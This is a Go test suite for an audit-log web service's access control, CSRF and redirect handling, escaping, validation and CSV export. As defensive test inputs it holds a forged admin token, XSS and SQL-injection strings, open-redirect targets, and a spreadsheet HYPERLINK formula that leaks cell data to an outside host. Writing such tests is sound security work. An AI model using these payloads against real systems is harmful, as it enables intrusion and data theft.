package web_test

import (
	"bufio"
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/jackc/pgx/v5/pgxpool"
	"github.com/stretchr/testify/require"

	"github.com/auditlog/auditlog/internal/dbtest"
	"github.com/auditlog/auditlog/jobs"
	"github.com/auditlog/auditlog/service"
	"github.com/auditlog/auditlog/web"
)

func TestMain(m *testing.M) { os.Exit(dbtest.Main(m)) }

var secret = []byte("a test secret of enough bytes")

type webBundle struct {
	ctx    context.Context
	pool   *pgxpool.Pool
	log    *service.Log
	srv    *httptest.Server
	tokens map[string]string // identity → token ("" for anonymous)
}

// identities of the authorization matrix.
var identities = []string{"anonymous", "user", "other user", "maintainer", "other maintainer", "admin", "tampered", "expired"}

func webSetup(t *testing.T) *webBundle {
	t.Helper()
	ctx := context.Background()
	pool := dbtest.Pool(t)
	enq, err := jobs.NewEnqueuer(pool)
	require.NoError(t, err)
	log := service.New(pool, &service.Opts{Enqueuer: enq})
	h, err := web.New(web.Options{Log: log, Secret: secret})
	require.NoError(t, err)
	srv := httptest.NewServer(h)
	t.Cleanup(srv.Close)
	b := &webBundle{ctx: ctx, pool: pool, log: log, srv: srv, tokens: map[string]string{"anonymous": ""}}
	mint := func(v service.Viewer, now time.Time) string {
		tok, err := service.MintViewerToken(secret, v, now, time.Hour)
		require.NoError(t, err)
		return tok
	}
	now := time.Now()
	b.tokens["user"] = mint(service.Viewer{UserID: "alice"}, now)
	b.tokens["other user"] = mint(service.Viewer{UserID: "bob"}, now)
	b.tokens["maintainer"] = mint(service.Viewer{UserID: "erin", Maintains: []string{"tinyweb"}}, now)
	b.tokens["other maintainer"] = mint(service.Viewer{UserID: "frank", Maintains: []string{"fastjson"}}, now)
	b.tokens["admin"] = mint(service.Viewer{UserID: "root", Admin: true}, now)
	good := b.tokens["user"]
	forged, _ := json.Marshal(map[string]any{"k": "viewer", "sub": "alice", "adm": true, "exp": now.Add(time.Hour).Unix()})
	b.tokens["tampered"] = "alv1." + base64.RawURLEncoding.EncodeToString(forged) + "." + strings.Split(good, ".")[2] // admin claims, alice's signature
	b.tokens["expired"] = mint(service.Viewer{UserID: "alice"}, now.Add(-2*time.Hour))

	record := func(model service.Model, p service.EventParams) {
		var err error
		if model == service.ModelUser {
			_, err = log.RecordUser(ctx, p)
		} else {
			_, err = log.RecordProject(ctx, p)
		}
		require.NoError(t, err)
	}
	for _, u := range []string{"alice", "bob", "erin"} {
		record(service.ModelUser, service.EventParams{Tag: "account:login:success", Subject: u, ActorID: u,
			AuthMethod: "password", IP: "192.0.2.10", UserAgent: "Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0",
			Location: &service.Location{Country: "DE", City: "Berlin"}})
	}
	record(service.ModelUser, service.EventParams{Tag: "account:email:add", Subject: "alice", ActorID: "alice",
		IP: "192.0.2.10", Additional: json.RawMessage(`{"email": "alice@example.com"}`)})
	record(service.ModelProject, service.EventParams{Tag: "project:release:add", Subject: "tinyweb", ActorID: "erin",
		AuthMethod: "trusted_publisher", TokenID: "github:erin/tinyweb/release.yml", IP: "198.51.100.20", UserAgent: "twine/6.0",
		Location: &service.Location{Country: "NL"}, Additional: json.RawMessage(`{"version": "1.0.0"}`)})
	record(service.ModelProject, service.EventParams{Tag: "project:role:invite", Subject: "tinyweb", ActorID: "erin",
		IP: "198.51.100.20", Additional: json.RawMessage(`{"target_user": "gina", "role": "Maintainer", "email": "gina@example.com"}`)})
	record(service.ModelProject, service.EventParams{Tag: "project:release:add", Subject: "fastjson", ActorID: "frank",
		AuthMethod: "api_token", TokenID: "ci-upload", IP: "203.0.113.7", Additional: json.RawMessage(`{"version": "2.0.0"}`)})
	return b
}

// get requests path as identity, by Bearer header (api) or session cookie
// (pages), and returns the status and body.
func (b *webBundle) get(t *testing.T, identity, path string) (int, string) {
	t.Helper()
	req, err := http.NewRequest("GET", b.srv.URL+path, nil)
	require.NoError(t, err)
	if tok := b.tokens[identity]; tok != "" {
		if strings.HasPrefix(path, "/api/") {
			req.Header.Set("Authorization", "Bearer "+tok)
		} else {
			req.AddCookie(&http.Cookie{Name: web.SessionCookie, Value: tok})
		}
	}
	resp, err := http.DefaultClient.Do(req)
	require.NoError(t, err)
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	require.NoError(t, err)
	return resp.StatusCode, string(body)
}

func events(t *testing.T, body string) []map[string]any {
	t.Helper()
	var page struct {
		Events []map[string]any `json:"events"`
	}
	require.NoError(t, json.Unmarshal([]byte(body), &page), body)
	return page.Events
}

// Every endpoint against every kind of viewer: the status, and that what
// a viewer may not see is absent from the body.
func TestAuthorizationMatrix(t *testing.T) {
	t.Parallel()
	b := webSetup(t)
	ok, unauth, forbidden := http.StatusOK, http.StatusUnauthorized, http.StatusForbidden
	type want map[string]int
	everyoneSignedIn := want{"anonymous": unauth, "user": ok, "other user": ok, "maintainer": ok, "other maintainer": ok, "admin": ok, "tampered": unauth, "expired": unauth}
	public := want{"anonymous": ok, "user": ok, "other user": ok, "maintainer": ok, "other maintainer": ok, "admin": ok, "tampered": unauth, "expired": unauth}
	adminOnly := want{"anonymous": unauth, "user": forbidden, "other user": forbidden, "maintainer": forbidden, "other maintainer": forbidden, "admin": ok, "tampered": unauth, "expired": unauth}
	for _, tc := range []struct {
		path string
		want want
	}{
		{"/me", everyoneSignedIn},
		{"/api/v1/me/events", everyoneSignedIn},
		{"/projects/tinyweb", public},
		{"/api/v1/projects/tinyweb/events", public},
		{"/admin/events", adminOnly},
		{"/api/v1/admin/events", adminOnly},
		{"/admin/export?format=csv", adminOnly},
		{"/admin/export?format=jsonl", adminOnly},
		{"/admin/erasures", adminOnly},
		{"/api/v1/admin/erasures", adminOnly},
	} {
		for _, who := range identities {
			status, body := b.get(t, who, tc.path)
			require.Equal(t, tc.want[who], status, "%s as %s: %s", tc.path, who, body)
			if status != ok {
				require.NotContains(t, body, "192.0.2.10", "%s as %s", tc.path, who)
				require.NotContains(t, body, "198.51.100.20", "%s as %s", tc.path, who)
				require.NotContains(t, body, "alice@example.com")
			}
		}
	}

	// My history: only my own events, with my IP.
	for who, user := range map[string]string{"user": "alice", "other user": "bob", "maintainer": "erin"} {
		_, body := b.get(t, who, "/api/v1/me/events")
		evs := events(t, body)
		require.NotEmpty(t, evs)
		for _, e := range evs {
			require.Equal(t, user, e["user_id"], who)
			require.Equal(t, "192.0.2.10", e["ip"])
		}
	}
	_, body := b.get(t, "user", "/api/v1/me/events")
	require.Contains(t, body, "alice@example.com", "the person sees their own personal keys")
	_, body = b.get(t, "other user", "/api/v1/me/events")
	require.NotContains(t, body, "alice")

	// A project: the public and other projects' maintainers see no actor,
	// no way in, nothing personal; its maintainers see who and how, but no
	// raw IP or user agent; admins see everything.
	hidden := []string{"actor_id", "auth_method", "token_id", "ip", "user_agent", "location", "network", "device"}
	for _, who := range []string{"anonymous", "user", "other maintainer"} {
		_, body := b.get(t, who, "/api/v1/projects/tinyweb/events")
		evs := events(t, body)
		require.Len(t, evs, 2, who)
		for _, e := range evs {
			for _, k := range hidden {
				require.NotContains(t, e, k, "%s sees %s", who, k)
			}
		}
		require.NotContains(t, body, "gina@example.com")
		require.Contains(t, body, "gina", "non-personal keys stay")
		_, page := b.get(t, who, "/projects/tinyweb")
		require.NotContains(t, page, "198.51.100.20")
		require.NotContains(t, page, "erin")
	}
	_, body = b.get(t, "maintainer", "/api/v1/projects/tinyweb/events")
	for _, e := range events(t, body) {
		require.Equal(t, "erin", e["actor_id"])
		require.Equal(t, "198.51.100.0/24", e["network"])
		require.NotContains(t, e, "ip")
		require.NotContains(t, e, "user_agent")
	}
	require.Contains(t, body, `"token_id":"github:erin/tinyweb/release.yml"`)
	require.NotContains(t, body, "gina@example.com")
	_, body = b.get(t, "admin", "/api/v1/projects/tinyweb/events")
	require.Contains(t, body, `"ip":"198.51.100.20"`)
	require.Contains(t, body, "gina@example.com")
	_, body = b.get(t, "maintainer", "/api/v1/projects/fastjson/events")
	require.NotContains(t, body, "ci-upload", "a maintainer of tinyweb sees nothing private of fastjson")
	require.NotContains(t, body, "frank")
}

// A login link opens a confirmation page and sets nothing; its button
// (a same-origin POST) sets an HttpOnly, SameSite=Strict cookie and
// redirects; a bad token is a 401 and sets nothing.
func TestLogin(t *testing.T) {
	t.Parallel()
	b := webSetup(t)
	client := &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	resp, err := client.Get(b.srv.URL + "/login?token=" + url.QueryEscape(b.tokens["user"]) + "&next=%2Fprojects%2Ftinyweb")
	require.NoError(t, err)
	page, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	require.Equal(t, http.StatusOK, resp.StatusCode)
	require.Empty(t, resp.Cookies(), "following a link signs nobody in")
	require.Contains(t, string(page), "This link signs you in as <b>alice</b>")
	require.Contains(t, string(page), `<form method="post" action="/login">`)
	require.Contains(t, string(page), `name="next" value="/projects/tinyweb"`)
	require.Equal(t, "no-referrer", resp.Header.Get("Referrer-Policy"))

	post := func(form url.Values, header map[string]string) *http.Response {
		req, _ := http.NewRequest("POST", b.srv.URL+"/login", strings.NewReader(form.Encode()))
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		for k, v := range header {
			req.Header.Set(k, v)
		}
		resp, err := client.Do(req)
		require.NoError(t, err)
		resp.Body.Close()
		return resp
	}
	resp = post(url.Values{"token": {b.tokens["user"]}}, map[string]string{"Sec-Fetch-Site": "same-origin", "Origin": b.srv.URL})
	require.Equal(t, http.StatusSeeOther, resp.StatusCode)
	require.Equal(t, "/me", resp.Header.Get("Location"))
	c := resp.Cookies()
	require.Len(t, c, 1)
	require.Equal(t, web.SessionCookie, c[0].Name)
	require.Equal(t, b.tokens["user"], c[0].Value)
	require.True(t, c[0].HttpOnly)
	require.False(t, c[0].Secure, "plain HTTP without --secure-cookies")
	require.Equal(t, http.SameSiteStrictMode, c[0].SameSite)

	// Login CSRF: a form on another site cannot sign the visitor in.
	for _, h := range []map[string]string{{"Sec-Fetch-Site": "cross-site"}, {"Origin": "https://evil.example"}, {"Sec-Fetch-Site": "same-site"}} {
		resp := post(url.Values{"token": {b.tokens["user"]}}, h)
		require.Equal(t, http.StatusForbidden, resp.StatusCode, h)
		require.Empty(t, resp.Cookies(), h)
	}

	for _, who := range []string{"tampered", "expired"} {
		for _, resp := range []*http.Response{
			func() *http.Response {
				r, err := client.Get(b.srv.URL + "/login?token=" + url.QueryEscape(b.tokens[who]))
				require.NoError(t, err)
				body, _ := io.ReadAll(r.Body)
				r.Body.Close()
				require.NotContains(t, string(body), "<table", "no partial page")
				return r
			}(),
			post(url.Values{"token": {b.tokens[who]}}, nil),
		} {
			require.Equal(t, http.StatusUnauthorized, resp.StatusCode, who)
			for _, c := range resp.Cookies() {
				require.Empty(t, c.Value)
			}
		}
	}
	for next, want := range map[string]string{"/projects/tinyweb": "/projects/tinyweb", "//evil.example": "/me",
		"https://evil.example/": "/me", `/\evil.example`: "/me", "/\t/evil.example": "/me", "/\n/evil.example": "/me",
		"/admin/events?user=x": "/admin/events?user=x", "/\xff": "/me"} {
		resp := post(url.Values{"token": {b.tokens["user"]}, "next": {next}}, nil)
		require.Equal(t, want, resp.Header.Get("Location"), next)
	}
	// A token for someone who maintains many projects is long; its link works.
	many := make([]string, 40)
	for i := range many {
		many[i] = fmt.Sprintf("project-number-%d", i)
	}
	long := mustToken(t, service.Viewer{UserID: "busy", Maintains: many})
	require.Greater(t, len(long), web.MaxFilterBytes)
	resp, err = client.Get(b.srv.URL + "/login?token=" + url.QueryEscape(long))
	require.NoError(t, err)
	resp.Body.Close()
	require.Equal(t, http.StatusOK, resp.StatusCode)

	resp, err = client.Get(b.srv.URL + "/login?token=garbage")
	require.NoError(t, err)
	resp.Body.Close()
	require.Equal(t, http.StatusUnauthorized, resp.StatusCode)
	resp, err = client.Get(b.srv.URL + "/login?token=" + url.QueryEscape(b.tokens["user"]) + "&token=x")
	require.NoError(t, err)
	resp.Body.Close()
	require.Equal(t, http.StatusBadRequest, resp.StatusCode, "a repeated parameter")
}

// Signing out is a same-origin POST carrying the session's CSRF token.
func TestLogoutNeedsCSRF(t *testing.T) {
	t.Parallel()
	b := webSetup(t)
	client := &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	logout := func(csrf string, header map[string]string) *http.Response {
		req, _ := http.NewRequest("POST", b.srv.URL+"/logout", strings.NewReader(url.Values{"csrf": {csrf}}.Encode()))
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		req.AddCookie(&http.Cookie{Name: web.SessionCookie, Value: b.tokens["user"]})
		for k, v := range header {
			req.Header.Set(k, v)
		}
		resp, err := client.Do(req)
		require.NoError(t, err)
		resp.Body.Close()
		return resp
	}
	_, page := b.get(t, "user", "/me")
	m := regexp.MustCompile(`action="/logout"><input type="hidden" name="csrf" value="([^"]+)"`).FindStringSubmatch(page)
	require.Len(t, m, 2, "the sign-out button carries the CSRF token")
	for _, resp := range []*http.Response{logout("", nil), logout("forged", nil), logout(m[1], map[string]string{"Sec-Fetch-Site": "cross-site"})} {
		require.Equal(t, http.StatusForbidden, resp.StatusCode)
		require.Empty(t, resp.Cookies(), "the session is kept")
	}
	resp := logout(m[1], map[string]string{"Sec-Fetch-Site": "same-origin"})
	require.Equal(t, http.StatusSeeOther, resp.StatusCode)
	require.Len(t, resp.Cookies(), 1)
	require.Empty(t, resp.Cookies()[0].Value, "the cookie is cleared")
}

// Every default tag renders as its description, never as the raw tag.
func TestEveryDefaultTagRendersAsText(t *testing.T) {
	t.Parallel()
	b := webSetup(t)
	placeholder := regexp.MustCompile(`\{([a-z_]+)\}`)
	tags := service.DefaultTags()
	for _, spec := range tags {
		add := map[string]string{}
		for _, m := range placeholder.FindAllStringSubmatch(spec.Description, -1) {
			add[m[1]] = "x"
		}
		raw, _ := json.Marshal(add)
		p := service.EventParams{Tag: spec.Tag, Subject: "tagger", ActorID: "tagger", Additional: raw}
		var err error
		if spec.Model == service.ModelUser {
			_, err = b.log.RecordUser(b.ctx, p)
		} else {
			p.Subject = "tagproj"
			_, err = b.log.RecordProject(b.ctx, p)
		}
		require.NoError(t, err, spec.Tag)
	}
	b.tokens["tagger"] = mustToken(t, service.Viewer{UserID: "tagger", Maintains: []string{"tagproj"}})
	status, me := b.get(t, "tagger", "/me?limit=200")
	require.Equal(t, http.StatusOK, status)
	_, project := b.get(t, "tagger", "/projects/tagproj?limit=200")
	_, public := b.get(t, "anonymous", "/projects/tagproj?limit=200")
	for _, spec := range tags {
		page := me
		if spec.Model == service.ModelProject {
			page = project
			require.NotContains(t, public, spec.Tag)
		}
		require.NotContains(t, page, spec.Tag, "the raw tag is shown")
		desc, _ := b.log.Registry().Describe(spec.Tag, json.RawMessage(`{}`))
		if desc == "" { // a template with placeholders: its literal start
			desc = strings.TrimSpace(strings.SplitN(spec.Description, "{", 2)[0])
		}
		require.Contains(t, page, template(desc), spec.Tag)
	}
}

// template escapes s as html/template writes text.
func template(s string) string {
	return strings.NewReplacer("'", "&#39;", "&", "&amp;", "<", "&lt;", ">", "&gt;", `"`, "&#34;").Replace(s)
}

func mustToken(t *testing.T, v service.Viewer) string {
	t.Helper()
	tok, err := service.MintViewerToken(secret, v, time.Now(), time.Hour)
	require.NoError(t, err)
	return tok
}

// An event whose description or additional data holds markup renders as
// text.
func TestOutputIsEscaped(t *testing.T) {
	t.Parallel()
	b := webSetup(t)
	_, err := b.log.RecordProject(b.ctx, service.EventParams{Tag: "project:release:add", Subject: "tinyweb", ActorID: "<i>mallory</i>",
		Additional: json.RawMessage(`{"version": "<script>alert(1)</script>", "note": "<img src=x onerror=alert(2)>"}`)})
	require.NoError(t, err)
	for _, who := range []string{"anonymous", "maintainer", "admin"} {
		_, page := b.get(t, who, "/projects/tinyweb")
		require.NotContains(t, page, "<script>alert(1)")
		require.NotContains(t, page, "<i>mallory</i>")
		require.Contains(t, page, "&lt;script&gt;alert(1)&lt;/script&gt;")
	}
	_, page := b.get(t, "admin", "/admin/events")
	require.NotContains(t, page, "<script>alert(1)")
	require.NotContains(t, page, "<img src=x")
	_, body := b.get(t, "admin", "/api/v1/admin/events")
	require.Contains(t, body, `\u003cscript\u003e`, "JSON escapes markup too")
}

// Page size and filters are bounded, and bad filters are a clear 400.
func TestBadRequests(t *testing.T) {
	t.Parallel()
	b := webSetup(t)
	for _, path := range []string{
		"/api/v1/me/events?limit=1000",
		"/api/v1/me/events?limit=0",
		"/api/v1/me/events?since=yesterday",
		"/api/v1/me/events?cursor=not-a-cursor",
		"/api/v1/me/events?tag=" + strings.Repeat("a", 300),
		"/api/v1/me/events?tag=Not_A_Tag",
		"/api/v1/admin/events?ip=999.1.1.1",
		"/api/v1/admin/events?tag_prefix=%27%3B%20DROP%20TABLE%20user_events%3B--",
		"/admin/export?format=xml",
	} {
		who := "user"
		if strings.Contains(path, "admin") {
			who = "admin"
		}
		status, body := b.get(t, who, path)
		require.Equal(t, http.StatusBadRequest, status, "%s: %s", path, body)
		if strings.HasPrefix(path, "/api/") {
			var e map[string]string
			require.NoError(t, json.Unmarshal([]byte(body), &e))
			require.NotEmpty(t, e["error"])
		}
	}
	status, _ := b.get(t, "admin", "/api/v1/admin/events")
	require.Equal(t, http.StatusOK, status, "user_events is still there")
	_, page := b.get(t, "admin", "/admin/events?user=alice&cursor=x1")
	require.Contains(t, page, "400", "a bad cursor on a page is a 400 page too")
	_, page = b.get(t, "admin", "/admin/events?user=alice&ip=192.0.2.0/24")
	require.Contains(t, page, `href="/admin/export?format=csv&amp;ip=192.0.2.0%2F24&amp;user=alice"`, "export links keep the filters")
}

// Pages carry an opaque cursor; following it gives the next 50 without
// repeats.
func TestPaging(t *testing.T) {
	t.Parallel()
	b := webSetup(t)
	batch := make([]service.EventParams, 120)
	for i := range batch {
		batch[i] = service.EventParams{Tag: "account:login:failure", Subject: "alice", ActorID: "alice",
			Time: time.Now().Add(-time.Duration(i+1) * time.Minute), Additional: json.RawMessage(`{"reason": "bad password"}`)}
	}
	_, err := b.log.RecordUserMany(b.ctx, batch)
	require.NoError(t, err)
	seen := map[float64]bool{}
	path := "/api/v1/me/events"
	pages := 0
	for {
		_, body := b.get(t, "user", path)
		var page struct {
			Events     []map[string]any `json:"events"`
			NextCursor string           `json:"next_cursor"`
			Failed     int              `json:"failed_logins_since_success"`
			Retention  int              `json:"retention_days"`
		}
		require.NoError(t, json.Unmarshal([]byte(body), &page))
		require.LessOrEqual(t, len(page.Events), web.PageSize)
		require.Equal(t, 90, page.Retention)
		require.Equal(t, 0, page.Failed, "the failures are older than the last success")
		for _, e := range page.Events {
			id := e["id"].(float64)
			require.False(t, seen[id])
			seen[id] = true
		}
		pages++
		if page.NextCursor == "" {
			break
		}
		path = "/api/v1/me/events?cursor=" + url.QueryEscape(page.NextCursor)
	}
	require.Equal(t, 3, pages)
	require.Len(t, seen, 122)

	_, err = b.log.RecordUser(b.ctx, service.EventParams{Tag: "account:login:failure", Subject: "alice",
		Additional: json.RawMessage(`{"reason": "bad 2FA code"}`)})
	require.NoError(t, err)
	_, page := b.get(t, "user", "/me")
	require.Contains(t, page, "1 failed sign-in attempt since your last successful sign-in")
	require.Contains(t, page, "Events older than 90 days are deleted.")
}

// Every admin read is itself recorded in the admin's own history.
func TestAdminReadIsRecorded(t *testing.T) {
	t.Parallel()
	b := webSetup(t)
	status, _ := b.get(t, "admin", "/api/v1/admin/events?user=alice&tag_prefix=account:")
	require.Equal(t, http.StatusOK, status)
	status, _ = b.get(t, "admin", "/admin/export?format=csv&ip=192.0.2.0/24")
	require.Equal(t, http.StatusOK, status)
	p, err := b.log.UserEvents(b.ctx, "root", service.ListOpts{Tag: "admin:events:view"})
	require.NoError(t, err)
	require.Len(t, p.Events, 2)
	type read struct {
		Format string            `json:"format"`
		Filter map[string]string `json:"filter"`
	}
	var last, first read
	require.NoError(t, json.Unmarshal(p.Events[0].Additional, &last))
	require.NoError(t, json.Unmarshal(p.Events[1].Additional, &first))
	require.Equal(t, read{Format: "csv", Filter: map[string]string{"ip": "192.0.2.0/24"}}, last)
	require.Equal(t, read{Format: "json", Filter: map[string]string{"user": "alice", "tag_prefix": "account:"}}, first)
	require.Equal(t, "root", p.Events[0].ActorID)
	// An admin on a project page sees everything, so that read is recorded too.
	status, _ = b.get(t, "admin", "/api/v1/projects/tinyweb/events")
	require.Equal(t, http.StatusOK, status)
	p, err = b.log.UserEvents(b.ctx, "root", service.ListOpts{Tag: "admin:events:view"})
	require.NoError(t, err)
	require.Len(t, p.Events, 3)
	var latest read
	require.NoError(t, json.Unmarshal(p.Events[0].Additional, &latest))
	require.Equal(t, read{Format: "project", Filter: map[string]string{"project": "tinyweb"}}, latest)
	// A refused read is not recorded (nothing was shown).
	status, _ = b.get(t, "user", "/api/v1/admin/events")
	require.Equal(t, http.StatusForbidden, status)
	p, err = b.log.UserEvents(b.ctx, "alice", service.ListOpts{Tag: "admin:events:view"})
	require.NoError(t, err)
	require.Empty(t, p.Events)
}

// flushCounter is a ResponseWriter that notes how much was written at
// each flush.
type flushCounter struct {
	http.ResponseWriter
	written int
	flushes []int
}

func (f *flushCounter) Write(p []byte) (int, error) {
	f.written += len(p)
	return f.ResponseWriter.Write(p)
}
func (f *flushCounter) Flush() { f.flushes = append(f.flushes, f.written) }

// The export streams: it flushes page by page as it reads, instead of
// building the whole answer first.
func TestExportStreams(t *testing.T) {
	t.Parallel()
	b := webSetup(t)
	const n = 5000
	batch := make([]service.EventParams, n)
	for i := range batch {
		batch[i] = service.EventParams{Tag: "project:release:add", Subject: "big", ActorID: "erin",
			Time: time.Now().Add(-time.Duration(i+1) * time.Second), IP: "198.51.100.9",
			Additional: json.RawMessage(fmt.Sprintf(`{"version": "0.%d"}`, i))}
	}
	_, err := b.log.RecordProjectMany(b.ctx, batch)
	require.NoError(t, err)
	h, err := web.New(web.Options{Log: b.log, Secret: secret})
	require.NoError(t, err)
	for _, format := range []string{"jsonl", "csv"} {
		rec := httptest.NewRecorder()
		fc := &flushCounter{ResponseWriter: rec}
		req := httptest.NewRequest("GET", "/admin/export?project=big&format="+format, nil)
		req.Header.Set("Authorization", "Bearer "+b.tokens["admin"])
		h.ServeHTTP(fc, req)
		require.Equal(t, http.StatusOK, rec.Code, rec.Body.String())
		lines := 0
		sc := bufio.NewScanner(strings.NewReader(rec.Body.String()))
		for sc.Scan() {
			lines++
		}
		want := n
		if format == "csv" {
			want++ // the header
		}
		require.Equal(t, want, lines)
		require.GreaterOrEqual(t, len(fc.flushes), n/1000, "one flush per page of 1,000")
		for i := 1; i < len(fc.flushes); i++ {
			require.Less(t, fc.flushes[i]-fc.flushes[i-1], rec.Body.Len()/3, "no single flush holds most of the export")
		}
	}
}

// The erasure form needs the session's CSRF token; a Bearer client does
// not (no cookie is involved).
func TestErasureFormCSRF(t *testing.T) {
	t.Parallel()
	b := webSetup(t)
	client := &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	post := func(who, csrf string) int {
		form := url.Values{"user_id": {"bob"}, "reason": {"ticket 7"}}
		if csrf != "" {
			form.Set("csrf", csrf)
		}
		req, _ := http.NewRequest("POST", b.srv.URL+"/admin/erasures", strings.NewReader(form.Encode()))
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		req.AddCookie(&http.Cookie{Name: web.SessionCookie, Value: b.tokens[who]})
		resp, err := client.Do(req)
		require.NoError(t, err)
		resp.Body.Close()
		return resp.StatusCode
	}
	require.Equal(t, http.StatusForbidden, post("admin", ""))
	require.Equal(t, http.StatusForbidden, post("admin", "forged"))
	_, page := b.get(t, "admin", "/admin/erasures")
	m := regexp.MustCompile(`name="csrf" value="([^"]+)"`).FindStringSubmatch(page)
	require.Len(t, m, 2)
	require.Equal(t, http.StatusForbidden, post("user", m[1]), "not an admin")
	self := url.Values{"user_id": {"root"}, "reason": {"hide my reads"}, "csrf": {m[1]}}
	req, _ := http.NewRequest("POST", b.srv.URL+"/admin/erasures", strings.NewReader(self.Encode()))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	req.AddCookie(&http.Cookie{Name: web.SessionCookie, Value: b.tokens["admin"]})
	resp, err := client.Do(req)
	require.NoError(t, err)
	resp.Body.Close()
	require.Equal(t, http.StatusForbidden, resp.StatusCode, "an admin cannot erase their own reads")
	require.Zero(t, countRows(t, b, "SELECT count(*) FROM erasure_requests"))
	require.Equal(t, http.StatusSeeOther, post("admin", m[1]))
	require.Equal(t, 1, countRows(t, b, "SELECT count(*) FROM erasure_requests WHERE user_id = 'bob' AND requested_by = 'root'"))
	_, page = b.get(t, "admin", "/admin/erasures")
	require.Contains(t, page, "ticket 7")
	require.Contains(t, page, "pending")
}

func countRows(t *testing.T, b *webBundle, sql string) int {
	t.Helper()
	var n int
	require.NoError(t, b.pool.QueryRow(b.ctx, sql).Scan(&n))
	return n
}

// On my own history, an event someone else did to my account shows their
// network and device, not their raw IP and user agent; my own sign-ins show
// mine.
func TestOwnerDoesNotSeeTheActorsIP(t *testing.T) {
	t.Parallel()
	b := webSetup(t)
	_, err := b.log.RecordUser(b.ctx, service.EventParams{Tag: "account:email:add", Subject: "alice", ActorID: "root",
		AuthMethod: "webauthn", IP: "203.0.113.66", UserAgent: "Mozilla/5.0 (Windows NT 10.0) Chrome/140.0",
		Additional: json.RawMessage(`{"email": "alice@work.example"}`)})
	require.NoError(t, err)
	_, body := b.get(t, "user", "/api/v1/me/events")
	for _, e := range events(t, body) {
		if e["actor_id"] == "root" {
			require.NotContains(t, e, "ip")
			require.NotContains(t, e, "user_agent")
			require.Equal(t, "203.0.113.0/24", e["network"])
			require.Equal(t, "Chrome on Windows", e["device"])
			require.Contains(t, e["additional"], "email", "alice's own e-mail address is hers to see")
		} else {
			require.Equal(t, "192.0.2.10", e["ip"])
		}
	}
	require.NotContains(t, body, "203.0.113.66")
	_, page := b.get(t, "user", "/me")
	require.NotContains(t, page, "203.0.113.66")
	_, body = b.get(t, "admin", "/api/v1/admin/events?user=alice")
	require.Contains(t, body, "203.0.113.66", "admins see it")
}

// CSV cells that a spreadsheet would run as a formula are neutralised,
// whichever column they are in; events of a tag no longer registered show
// no additional data to the public.
func TestExportCSVFormulasAndRetiredTags(t *testing.T) {
	t.Parallel()
	b := webSetup(t)
	_, err := b.log.RecordUser(b.ctx, service.EventParams{Tag: "account:login:failure", Subject: "alice",
		UserAgent: `=HYPERLINK("http://x.example/?"&A1)`, Location: &service.Location{City: "@SUM(1)"},
		Additional: json.RawMessage(`{"reason": "bad password"}`)})
	require.NoError(t, err)
	status, csv := b.get(t, "admin", "/admin/export?format=csv&user=alice")
	require.Equal(t, http.StatusOK, status)
	require.Contains(t, csv, `'=HYPERLINK`)
	require.Contains(t, csv, `'@SUM(1)`)
	require.NotContains(t, csv, `,=HYPERLINK`)
	require.NotContains(t, csv, `,"=HYPERLINK`)

	_, err = b.pool.Exec(b.ctx, `INSERT INTO project_events (tag, project_id, description, additional)
		VALUES ('project:retired:thing', 'tinyweb', 'Something retired', '{"email": "old@example.com"}')`)
	require.NoError(t, err)
	_, body := b.get(t, "anonymous", "/api/v1/projects/tinyweb/events")
	require.Contains(t, body, "Something retired")
	require.NotContains(t, body, "old@example.com")
}
